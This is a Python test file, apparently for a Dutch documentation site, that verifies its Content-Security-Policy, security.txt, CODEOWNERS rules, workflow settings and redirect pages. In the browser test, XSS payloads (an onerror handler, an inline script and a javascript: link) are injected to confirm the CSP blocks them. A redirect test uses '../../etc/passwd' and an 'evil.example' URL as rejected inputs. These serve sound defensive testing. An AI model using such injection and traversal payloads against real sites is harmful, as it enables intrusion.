    for page in ("index.html", "provincies/overijssel/index.html", "404.html", "zoeken/index.html"):
        html = (built_site / page).read_text(encoding="utf-8")
        head = LexborHTMLParser(html).head
        first = head.css_first("meta[http-equiv]")
        assert first is not None and first.attributes["http-equiv"] == "Content-Security-Policy", page
        policy = dict(part.strip().split(" ", 1) for part in first.attributes["content"].split(";"))
        assert policy["object-src"] == "'none'" and policy["base-uri"] == "'self'" and policy["form-action"] == "'self'"
        assert policy["img-src"] == "'self' data:" and policy["style-src"] == "'self'"
        assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"]
        assert head.html.index("Content-Security-Policy") < head.html.index("<script")


def test_security_txt_follows_rfc_9116(built_site):
    text = (built_site / ".well-known" / "security.txt").read_text(encoding="utf-8")
    fields = dict(line.split(": ", 1) for line in text.strip().splitlines())
    assert fields["Contact"].startswith("https://")
    assert fields["Preferred-Languages"] == "nl, en"
    assert fields["Canonical"].endswith("/.well-known/security.txt") and fields["Canonical"].startswith("https://")
    # The test build's date is 2026-01-01 (conftest.TEST_EPOCH): valid for a year less a day, counted
    # from that date, never from the day the test runs.
    assert fields["Expires"] == "2026-12-31T00:00:00Z"


def test_codeowners_guards_what_runs_or_decides_what_is_allowed():
    owners = (ROOT / ".github" / "CODEOWNERS").read_text(encoding="utf-8")
    guarded = {line.split()[0] for line in owners.splitlines() if line.strip() and not line.startswith("#")}
    for path in ("/macros/", "/overrides/", "/docs/assets/", "/.github/", "/data/toegestane-adressen.yml", "/mkdocs.yml",
                 "/Makefile", "/requirements*.txt", "/requirements*.in", "/.ci/", "/tests/", "/bench/"):
        assert path in guarded, path


def test_project_yaml_files_have_no_duplicate_keys():
    """A merge can leave a key twice (it happened to `extra:` in mkdocs.yml); YAML keeps the last silently."""
    import yaml

    from macros.loader import structure_problems

    class TagBlind(yaml.SafeLoader):
        pass

    TagBlind.add_multi_constructor("", lambda loader, suffix, node: None)
    for file in [ROOT / "mkdocs.yml", *(ROOT / ".github").rglob("*.yml"), *(ROOT / "docs").rglob(".nav.yml")]:
        node = yaml.compose(file.read_text(encoding="utf-8"), Loader=TagBlind)
        problems = [problem for problem in structure_problems(node) if "twee keer" in problem[1] or "<<" in problem[1]]
        assert problems == [], (file, problems)


def test_workflows_never_build_pull_requests_with_secrets():
    for workflow in (ROOT / ".github" / "workflows").glob("*.yml"):
        text = workflow.read_text(encoding="utf-8")
        assert "pull_request_target" not in text, workflow.name
        assert "workflow_run" not in text, workflow.name


# ---------------------------------------------------------------- the CSP in a real browser

@pytest.fixture
def chromium_path() -> str:
    return require_chromium()


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.mark.browser
def test_csp_blocks_an_injected_handler_and_script_in_chromium(tmp_path, chromium_path):
    """Should a handler slip past the policy, the browser still refuses to run it."""
    from playwright.sync_api import sync_playwright

    pages = {rel: page_text(fm) for rel, fm in VALID_PAGES.items()}
    config = make_mini_site(tmp_path, pages)
    site = tmp_path / "serve" / "kennisbank"
    result = run_build(config, site)
    assert result.returncode == 0, result.stderr
    page_file = site / "instrumenten" / "overijssel-scan" / "index.html"
    html = page_file.read_text(encoding="utf-8")
    injected = ('<img src="x" onerror="document.title=\'pwned\';alert(1)">'
                '<script>document.title="pwned";alert(2)</script>'
                '<a id="klik" href="javascript:alert(3)">klik</a>')
    page_file.write_text(html.replace("</article>", injected + "</article>", 1), encoding="utf-8")

    handler = lambda *args: _Quiet(*args, directory=str(tmp_path / "serve"))  # noqa: E731
    with socketserver.TCPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        url = f"http://127.0.0.1:{server.server_address[1]}/kennisbank/instrumenten/overijssel-scan/"
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=chromium_path)
            page = browser.new_page()
            dialogs, violations = [], []
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.on("console", lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None)
            page.goto(url, wait_until="load")
            page.click("#klik")
            page.wait_for_function("document.readyState === 'complete'", timeout=10_000)
            assert page.title() != "pwned"
            browser.close()
        server.shutdown()
    assert dialogs == []
    assert len(violations) >= 2, violations


def test_removed_pages_redirect_to_their_successor(built_site):
    """Every old address in data/doorverwijzingen.yml still answers, sends the reader on, and carries the CSP."""
    import yaml

    redirects = yaml.safe_load((ROOT / "data" / "doorverwijzingen.yml").read_text(encoding="utf-8"))
    assert redirects
    for old, new in redirects.items():
        page = built_site / old[:-3] / "index.html"
        tree = LexborHTMLParser(page.read_text(encoding="utf-8"))
        refresh = tree.css_first('meta[http-equiv="refresh"]').attributes["content"]
        href = refresh.split("url=", 1)[1]
        assert (page.parent / href / "index.html").resolve() == (built_site / new[:-3] / "index.html").resolve()
        assert tree.css_first("a").attributes["href"] == href
        assert tree.head.css_first("meta").attributes.get("http-equiv") == "Content-Security-Policy"


@pytest.mark.parametrize(("case", "text", "expected"), [
    ("page-still-exists", "instrumenten/overijssel-scan.md: instrumenten/overijssel-scan.md\n", "deze pagina bestaat nog"),
    ("target-missing", "instrumenten/oud.md: instrumenten/bestaat-niet.md\n", "de nieuwe pagina docs/instrumenten/bestaat-niet.md bestaat niet"),
    ("outside-docs", "instrumenten/oud.md: ../../etc/passwd\n", "alleen paden van pagina's binnen docs/"),
    ("external-target", "instrumenten/oud.md: https://evil.example/\n", "alleen paden van pagina's binnen docs/"),
])
def test_redirect_map_is_checked(content_tree, case, text, expected):
    (content_tree / "data" / "doorverwijzingen.yml").write_text(text, encoding="utf-8")
    messages = [str(error) for error in build_index(content_tree / "docs", content_tree / "data").errors]
    assert any(message.startswith("data/doorverwijzingen.yml:1:") and expected in message for message in messages), messages


@pytest.mark.browser
def test_the_real_site_works_under_its_csp(built_site, chromium_path, tmp_path):
    """Search, palette, instant navigation, sorting, compare, timeline and map raise no CSP violation."""
    from playwright.sync_api import expect, sync_playwright

    serve = tmp_path / "serve"
    serve.mkdir()
    (serve / "kennisbank").symlink_to(built_site, target_is_directory=True)
    handler = lambda *args: _Quiet(*args, directory=str(serve))  # noqa: E731
    record = "window.__csp = []; document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));"
    with socketserver.TCPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        base = f"http://127.0.0.1:{server.server_address[1]}/kennisbank/"
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=chromium_path)
            context = browser.new_context()
            context.add_init_script(record)
            page = context.new_page()
            violations: list[str] = []
            page.on("console", lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None)

            def collect():
                violations.extend(page.evaluate("window.__csp || []"))

            page.goto(base)
            scheme = page.locator("body").get_attribute("data-md-color-scheme")
            page.locator("form[data-md-component=palette] label:not([hidden])").first.click()  # palette toggle
            expect(page.locator("body")).not_to_have_attribute("data-md-color-scheme", scheme or "")
            collect()
            for path in ("overzichten/provincies/", "overzichten/vergelijk/?p=utrecht,drenthe", "overzichten/tijdlijn/",
                         "overzichten/kaart/", "overzichten/matrix/", "zoeken/?q=herindeling", "provincies/utrecht/"):
                page.goto(base + path)
                page.wait_for_load_state("networkidle")
                collect()
            page.goto(base + "overzichten/provincies/")
            page.locator("table th").first.click()  # sorting
            page.locator("article a[href*='provincies/']").first.click()  # instant navigation
            expect(page).not_to_have_url(base + "overzichten/provincies/")
            page.wait_for_load_state("networkidle")
            collect()
            page.goto(base)
            page.keyboard.press("/")
            page.keyboard.type("subsidie")
            page.wait_for_load_state("networkidle")
            collect()
            browser.close()
        server.shutdown()
    assert violations == [], violations
